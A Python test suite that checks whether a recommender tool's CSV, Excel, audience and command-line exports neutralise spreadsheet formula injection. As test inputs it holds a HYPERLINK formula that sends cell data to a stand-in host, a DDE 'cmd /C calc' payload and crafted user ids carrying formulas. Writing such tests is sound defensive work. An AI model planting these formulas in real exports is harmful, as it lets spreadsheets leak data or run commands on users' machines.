"""Every export path neutralises formula-like cells (OWASP CSV injection): CSV and Excel downloads of the app, the
audience export with and without pseudonyms, ``clean --out`` and ``audience --raw-ids --out``."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pandas as pd
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from recsys_core.data.dataset import Dataset
from recsys_core.data.export import export_bytes, export_dataset, to_csv_bytes, to_excel_bytes
from recsys_core.profiling.audience import export_audience_csv

from ..profiling.conftest import planted_dataset
from ..profiling.test_cli import run_main

PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\x00", "＝", "＋", "－", "＠"]
PLAIN_NUMBER = re.compile(r"^[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?$")

cell_text = st.one_of(
    st.text(max_size=12),
    st.builds(lambda p, s: p + s, st.sampled_from(PREFIXES), st.text(max_size=12)),
    st.sampled_from(['=HYPERLINK("http://e.x/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+1.5", "-7"]),
)


def _unsafe(v) -> bool:
    if not isinstance(v, str) or not v:
        return False
    if re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", v):
        return True
    return v[0] in PREFIXES and not PLAIN_NUMBER.match(v)


def csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def xlsx_cells(data: bytes) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", c.value
                out.append(c.value)
    return out


def _assert_safe(cells):
    bad = [c for c in cells if _unsafe(c)]
    assert not bad, bad


frames = st.lists(st.tuples(cell_text, cell_text, st.floats(-5, 5, allow_nan=False)), min_size=1, max_size=6).map(
    lambda rows: pd.DataFrame(rows, columns=["user_id", "text", "rating"])
)


@settings(max_examples=40, deadline=None)
@given(frames, cell_text)
def test_csv_and_excel_bytes_are_neutralised(df, header):
    df = df.rename(columns={"text": header or "text"}) if header not in df.columns else df
    before = df.copy()
    _assert_safe(csv_cells(to_csv_bytes(df)))
    _assert_safe(csv_cells(export_bytes({"t": df}, "csv")))
    _assert_safe(xlsx_cells(to_excel_bytes({"t": df})))
    pd.testing.assert_frame_equal(df, before)  # the input is untouched


@settings(max_examples=25, deadline=None)
@given(frames, st.booleans())
def test_audience_export_is_neutralised_with_and_without_pseudonyms(df, pseudo):
    aud = df.assign(score=df["rating"], rank=range(1, len(df) + 1))
    data = export_audience_csv(aud, b"k" * 32 if pseudo else None, pseudonymise_ids=pseudo)
    cells = csv_cells(data)
    _assert_safe(cells)
    if not pseudo:  # raw ids are still there, only defused
        assert {c.lstrip("'") for c in cells} >= {
            re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", u) for u in aud["user_id"]
        } - {""}


def _dataset(ids: list[str], titles: list[str]) -> Dataset:
    inter = pd.DataFrame(
        {"user_id": ids, "item_id": [f"i{k}" for k in range(len(ids))], "rating": [3.0] * len(ids), "text": titles}
    )
    items = pd.DataFrame({"item_id": [f"i{k}" for k in range(len(ids))], "title": titles})
    return Dataset.from_frames(inter, items=items, name="x")


@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(cell_text, min_size=2, max_size=5))
def test_dataset_export_files_and_app_downloads_are_neutralised(tmp_path, cells):
    from ui import data_page as dp

    ds = _dataset([f"u{k}" if not c.strip() else c for k, c in enumerate(cells)], cells)
    _assert_safe(csv_cells(export_dataset(ds, tmp_path / "d.csv").read_bytes()))
    _assert_safe(xlsx_cells(export_dataset(ds, tmp_path / "d.xlsx").read_bytes()))
    _assert_safe(csv_cells(dp.export_csv(ds)))
    _assert_safe(xlsx_cells(dp.export_excel(ds)))
    assert not list(tmp_path.glob("*.part"))


# ----------------------------------------------------------------------------------------------- command line
def _crafted_folder(path, prefix: str):
    ds, _ = planted_dataset(n_per_group=8, own=12)
    crafted = {u: f'{prefix}HYPERLINK("http://e.x/{u}","{u}")' for u in ds.interactions["user_id"].unique()}
    inter = ds.interactions[["user_id", "item_id", "rating", "timestamp"]].assign(
        user_id=lambda d: d["user_id"].map(crafted)
    )
    path.mkdir(parents=True, exist_ok=True)
    inter.to_csv(path / "interactions.csv", index=False)
    ds.items.assign(genres=ds.items["genres"].map("|".join)).to_csv(path / "items.csv", index=False)
    return path


@settings(max_examples=3, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.sampled_from(["=", "+", "-", "@", "＝"]), st.sampled_from(["csv", "xlsx"]))
def test_cli_audience_raw_ids_and_clean_out_are_neutralised(tmp_path, capsys, prefix, ext):
    d = _crafted_folder(tmp_path / f"data{ord(prefix)}", prefix)
    out = tmp_path / f"aud{ord(prefix)}.{ext}"
    code, _, err = run_main(
        capsys, "audience", d, "--item", "F05", "--model", "popularity", "--top", "5", "--out", out, "--raw-ids",
        "--workspace", tmp_path / "ws",
    )  # fmt: skip
    assert code == 0, err
    cells = csv_cells(out.read_bytes()) if ext == "csv" else xlsx_cells(out.read_bytes())
    _assert_safe(cells)
    assert sum(str(c).startswith(f"'{prefix}HYPERLINK") for c in cells) == 5
    cleaned = tmp_path / f"clean{ord(prefix)}.{ext}"
    code, _, err = run_main(
        capsys, "clean", d / "interactions.csv", "--out", cleaned, "--raw-ids", "--workspace", tmp_path / "ws"
    )
    assert code == 0, err
    cells = csv_cells(cleaned.read_bytes()) if ext == "csv" else xlsx_cells(cleaned.read_bytes())
    _assert_safe(cells)
    assert any(str(c).startswith(f"'{prefix}HYPERLINK") for c in cells)
